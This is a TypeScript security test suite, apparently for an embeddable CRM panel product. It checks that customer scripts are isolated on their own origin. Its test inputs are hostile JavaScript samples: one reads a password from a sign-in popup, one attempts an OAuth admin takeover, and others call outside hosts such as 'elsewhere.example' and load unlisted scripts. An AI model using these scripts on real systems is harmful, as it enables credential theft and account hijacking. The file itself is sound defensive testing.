import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "../scripts/testing/chromium.ts";
import { loginByClientCredentials, pointSdkAt } from "./conformance/sdk.ts";
import { type Api, apiOf } from "./support/api.ts";
import { type EmbeddingPage, serveEmbeddingPage } from "./support/embedding-page.ts";
import { startTestInlay, type TestInlay } from "./support/inlay.ts";
import { until } from "./support/until.ts";

const framework = `window.Framework = { config: { name: "Evil", clientIds: {}, settings: {} }, initialSetup() {},
	screenPop() {}, processCallLog() {}, openCallLog() {}, contactSearch() {} };`;

/** Keeps every window that the panel opens, and reads in it what it can. */
const wrapsOpen = `${framework}
window.seen = [];
(function () {
	var original = window.open;
	window.open = function () {
		var popup = original.apply(window, arguments);
		setInterval(function () {
			try { seen.push(popup.document.querySelector("#password").value); } catch (error) { seen.push(error.name); }
		}, 20);
		return popup;
	};
})();`;

/** Everything by which a script of the panel could get somebody signed in without a click. */
function takesOver(api: string, panel: string, clientId: string, admin: string): string {
	return `${framework}
window.tries = {};
(async function () {
	var address = ${JSON.stringify(api)} + "/oauth/authorize?" + new URLSearchParams({ client_id: ${JSON.stringify(clientId)},
		redirect_uri: ${JSON.stringify(panel)} + "/crm/index.html", response_type: "code", state: "s", login_hint: ${JSON.stringify(admin)},
		code_challenge: "c".repeat(43), code_challenge_method: "S256" });
	tries.page = await fetch(address).then(function (answer) { return answer.text(); }).catch(function (error) { return error.name; });
	tries.post = await fetch(${JSON.stringify(api)} + "/oauth/authorize", { method: "POST",
		body: new URLSearchParams({ ticket: "x", demo: ${JSON.stringify(admin)} }) })
		.then(function (answer) { return answer.text(); }).catch(function (error) { return error.name; });
	var frame = document.createElement("iframe");
	var blocked = new Promise(function (resolve) { document.addEventListener("securitypolicyviolation", function (event) {
		if (event.effectiveDirective === "frame-src") resolve("blocked"); }); });
	frame.src = address;
	document.body.append(frame);
	tries.frame = await blocked;
	// A page of the panel's origin that has no code of Inlay's in it is a place to hide, too.
	tries.waits = true;
	await new Promise(function (resolve) { addEventListener("click", resolve, { once: true }); });
	var bare = window.open("/crm/boot.json", "bare");
	await new Promise(function (resolve) { bare.addEventListener("load", resolve); });
	var shut = new Promise(function (resolve) { bare.document.addEventListener("securitypolicyviolation", function (event) {
		resolve(event.effectiveDirective); }); });
	var hidden = bare.document.createElement("iframe");
	hidden.src = address;
	bare.document.body.append(hidden);
	tries.hidden = await shut;
	tries.done = true;
})();`;
}

/** A script under every name of this machine, which tells where it came from. */
async function serveLibrary(): Promise<{ port: number; close(): void }> {
	const server = createServer((request, response) => {
		response.setHeader("content-type", "text/javascript");
		response.end(`window.ran = (window.ran || []).concat("http://${request.headers.host}");`);
	});
	server.listen(0, "127.0.0.1");
	await once(server, "listening");
	return { port: (server.address() as AddressInfo).port, close: () => server.close() };
}

/** A customer's script has a home of its own: sign-in, API and console are on another origin. */
describe("customer code lives on an origin of its own", { timeout: 90_000 }, () => {
	let inlay: TestInlay;
	let browser: Browser;
	let crm: EmbeddingPage;
	let api: Api;

	beforeAll(async () => {
		[inlay, browser, crm] = await Promise.all([startTestInlay(), launchChromium(), serveEmbeddingPage("crm")]);
		pointSdkAt(inlay.baseUrl);
		const { id, secret = "" } = inlay.demo.clients.automation;
		api = apiOf(inlay.baseUrl, await loginByClientCredentials(id, secret));
	});

	afterAll(async () => {
		await browser?.close();
		crm?.close();
		await inlay?.stop();
	});

	/** Uploads a script to a deployment of its own, and gives the panel's address. */
	let tries = 0;
	async function deployed(source: string): Promise<string> {
		const integrationType = { id: "embeddable-framework" };
		const { id } = await api.call("POST", "/integrations", { name: `Tried ${++tries}`, integrationType });
		const current = await api.call("GET", `/integrations/${id}/config/current`);
		const properties = { frameworkJs: source, allowedOrigins: [crm.origin] };
		await api.call("PUT", `/integrations/${id}/config/current`, { ...current, properties });
		await api.call("PATCH", `/integrations/${id}`, { intendedState: "ENABLED" });
		return `${inlay.panelUrl}/crm/embeddableFramework.html?deployment=${id}`;
	}

	async function embedded(address: string): Promise<Page> {
		const page = await (await browser.newContext()).newPage();
		await page.goto(crm.embedding(address));
		return page;
	}

	it("a script that wrapped window.open read the password typed on the sign-in page", async () => {
		const page = await embedded(`${await deployed(wrapsOpen)}&dedicatedLoginWindow=true`);
		const panel = page.frameLocator("iframe");
		const [popup] = await Promise.all([
			page.waitForEvent("popup"),
			panel.getByRole("button", { name: "Sign in" }).click(),
		]);
		await popup.locator("#password").fill("my secret");
		const frame = page.frames().at(-1);
		await frame?.evaluate("window.seen.splice(0)");
		await until("the script has looked while the password stood there", async () => {
			const seen = (await frame?.evaluate("window.seen")) as string[];
			return seen.filter((one) => one === "SecurityError").length > 5;
		});
		const { username, password } = inlay.demo.users.agent;
		await popup.locator("#username").fill(username);
		await popup.locator("#password").fill(password);
		await popup.locator("#submit").click();
		await panel.locator("[data-status]").first().waitFor();
		expect(await frame?.evaluate("window.seen")).not.toContain(password);
		await page.context().close();
	});

	it("a script that calls a server which no setting names fails in words", async () => {
		// Put together, so that it does not stand in the script.
		const calls = `${framework} window.got = ["https:/", "elsewhere.example"].join("/");
			fetch(got).then(function () { got = "answered"; }, function (error) { got = error.name; });
			fetch(${JSON.stringify(crm.origin)}, { mode: "no-cors" }).then(function () { window.own = "answered"; });`;
		const page = await embedded(`${await deployed(calls)}&dedicatedLoginWindow=true`);
		await page.frameLocator("iframe").getByText("wanted to call https://elsewhere.example").waitFor();
		const panel = page.frames().find((frame) => frame.url().startsWith(inlay.panelUrl));
		await until("the embedding page's own server has answered", () => panel?.evaluate("window.own"));
		expect(await panel?.evaluate("window.got")).toBe("TypeError");
		await page.context().close();
	});

	it("a script with nobody signed in became the administrator of the demo", async () => {
		const { username } = inlay.demo.users.admin;
		const script = takesOver(inlay.baseUrl, inlay.panelUrl, inlay.demo.clients.panel.id, username);
		const page = await embedded(`${await deployed(script)}&dedicatedLoginWindow=true`);
		const panel = await until("the panel's frame is there", () =>
			page.frames().find((frame) => frame.url().startsWith(inlay.panelUrl)),
		);
		const tries = () => panel.evaluate("window.tries") as Promise<Record<string, unknown> | undefined>;
		await until("the script has tried what needs no click", async () => (await tries())?.waits);
		await panel.locator("body").click();
		await until("the script has tried everything", async () => (await tries())?.done);
		expect(await tries()).toMatchObject({
			page: "TypeError",
			post: "TypeError",
			frame: "blocked",
			hidden: "frame-src",
		});
		await page.context().close();
	});

	it("sends addresses from before on to the panel, framed too, with all they ask for", async () => {
		const address = await deployed(framework);
		const page = await embedded(address.replace(inlay.panelUrl, inlay.baseUrl));
		await page.frameLocator("iframe").locator("#username").waitFor();
		await page.context().close();
		const old = await fetch(`${inlay.baseUrl}/crm/acme/index.html?a=1&b=%20`, { redirect: "manual" });
		expect([old.status, old.headers.get("location")]).toEqual([307, `${inlay.panelUrl}/crm/acme/index.html?a=1&b=%20`]);
	});

	it.each(["/api/v2/users/me", "/oauth/authorize", "/oauth/token", "/admin/", "/api/v2/docs/", "/", "/logout"])(
		"serves nothing at %s beside customer code",
		async (path) => {
			const answer = await fetch(`${inlay.panelUrl}${path}`, { redirect: "manual" });
			expect(answer.status).toBe(404);
		},
	);

	it("loads the scripts whose addresses stand in the customer's, and says which others it did not", async () => {
		const library = await serveLibrary();
		const named = `http://named.localhost:${library.port}`;
		const script = `${framework}
function load(address) { var element = document.createElement("script"); element.src = address; document.head.append(element); }
load("${named}/a.js");
load(["http:", "", "hidden.localhost:${library.port}", "b.js"].join("/"));
try { eval("window.ran = ['text']"); } catch (error) {}`;
		const page = await embedded(`${await deployed(script)}&dedicatedLoginWindow=true`);
		const panel = page.frameLocator("iframe");
		await panel.getByText(`wanted to load another one from http://hidden.localhost:${library.port}`).waitFor();
		const frame = page.frames().at(-1);
		await until("the named script has run", async () => frame?.evaluate("window.ran"));
		expect(await frame?.evaluate("window.ran")).toEqual([named]);
		library.close();
		await page.context().close();
	});

	it("shows the API's documentation under its policy", async () => {
		const page = await browser.newPage();
		const complaints: string[] = [];
		page.on("console", (message) => message.type() === "error" && complaints.push(message.text()));
		await page.goto(`${inlay.baseUrl}/api/v2/docs/`);
		await page.locator(".opblock-tag").first().click();
		await page.locator(".opblock").first().waitFor();
		expect(complaints).toEqual([]);
		await page.close();
	});
});
